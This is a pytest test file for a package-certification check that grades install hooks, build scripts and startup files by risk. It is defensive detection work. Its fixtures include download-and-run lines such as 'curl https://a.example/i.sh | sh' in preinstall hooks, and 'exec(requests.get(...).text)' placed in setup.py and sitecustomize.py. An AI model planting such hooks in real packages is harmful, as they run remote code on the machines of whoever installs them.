import json
from pathlib import Path

import pytest

from certification.checks.install_scripts import CHECK
from certification.types import Level, Outcome
from tests.certification.checks.local_subject import checked, rules

SKILL = "---\nname: a\ndescription: b\n---\n"
FETCH = "import requests\nrequests.get('https://a.example')"
RUN = "import requests\nexec(requests.get('https://a.example').text)"


def package(**scripts: str) -> str:
    return json.dumps({"name": "a", "version": "1.0.0", "scripts": scripts})


@pytest.mark.parametrize(
    ("files", "rule", "level"),
    [
        (
            {"package.json": package(postinstall="node-gyp rebuild && npm run build")},
            "hook",
            Level.NOTE,
        ),
        (
            {"package.json": package(install="node a.js"), "a.js": "console.log(1)"},
            "hook",
            Level.NOTE,
        ),
        (
            {"package.json": package(install="node a"), "a.js": "fetch('https://a.example')"},
            "hook",
            Level.WARNING,
        ),
        (
            {"p/package.json": package(install="./a.sh"), "p/a.sh": "curl https://a.example"},
            "hook",
            Level.WARNING,
        ),
        ({"package.json": package(install="node missing.js")}, "hook", Level.WARNING),
        ({"package.json": package(postinstall="node -e 1")}, "hook", Level.WARNING),
        ({"package.json": package(postinstall="something --else")}, "hook", Level.WARNING),
        ({"package.json": package(prepare="something --else")}, "hook", Level.NOTE),
        (
            {"package.json": package(preinstall="curl https://a.example/i.sh | sh")},
            "hook",
            Level.ERROR,
        ),
        (
            {"package.json": package(install="node a.js"), "a.js": "eval(atob(x))"},
            "hook",
            Level.ERROR,
        ),
        (
            {"setup.py": "import subprocess\nsubprocess.run(['git', 'describe'])"},
            "build",
            Level.NOTE,
        ),
        ({"setup.py": FETCH}, "build", Level.WARNING),
        ({"setup.py": RUN}, "build", Level.ERROR),
        ({"a.pth": "import os; os.environ['A']"}, "start", Level.WARNING),
        ({"sitecustomize.py": RUN}, "start", Level.ERROR),
        ({"a.py": RUN}, "download-run", Level.ERROR),
        ({"a.sh": "curl https://a.example/i.sh | sh"}, "download-run", Level.WARNING),
        ({"a.py": "import os\nos.system('pip install x')"}, "run-time-install", Level.WARNING),
        ({"a.sh": "pip install x"}, "run-time-install", Level.NOTE),
        ({"tests/a.py": "import os\nos.system('pip install x')"}, "run-time-install", Level.NOTE),
    ],
)
def test_gravity(files: dict[str, str], rule: str, level: Level, tmp_path: Path) -> None:
    assert rules(checked(CHECK, tmp_path, {**files, "SKILL.md": SKILL}))[rule] is level


@pytest.mark.parametrize(
    "files",
    [
        {"package.json": package(build="tsc", test="curl https://a.example | sh")},
        {"package.json": '{"scripts": []}'},
        {"package.json": "[]"},
        {"setup.py": "from setuptools import setup\nsetup()"},
        {"a.py": FETCH},
        {"a.pth": "../src"},
    ],
)
def test_honest_packages_pass(files: dict[str, str], tmp_path: Path) -> None:
    report = checked(CHECK, tmp_path, {**files, "SKILL.md": SKILL})
    assert report.outcome is Outcome.PASSED
    assert not report.result.findings


@pytest.mark.parametrize("content", ["{", b"\0", "[" * 100_000, " " * (2**21 + 1)])
def test_a_corrupt_manifest_is_said(content: str | bytes, tmp_path: Path) -> None:
    report = checked(CHECK, tmp_path, {"package.json": content, "SKILL.md": SKILL})
    assert report.outcome is Outcome.ERRORED
    assert "package.json" in report.result.incomplete


def test_hooks_are_evidence(tmp_path: Path) -> None:
    report = checked(CHECK, tmp_path, {"package.json": package(install="tsc"), "SKILL.md": SKILL})
    assert report.result.evidence[0].content == ["package.json: install: tsc"]


def test_not_applicable(tmp_path: Path) -> None:
    assert checked(CHECK, tmp_path, {"SKILL.md": SKILL}).outcome is Outcome.NOT_APPLICABLE
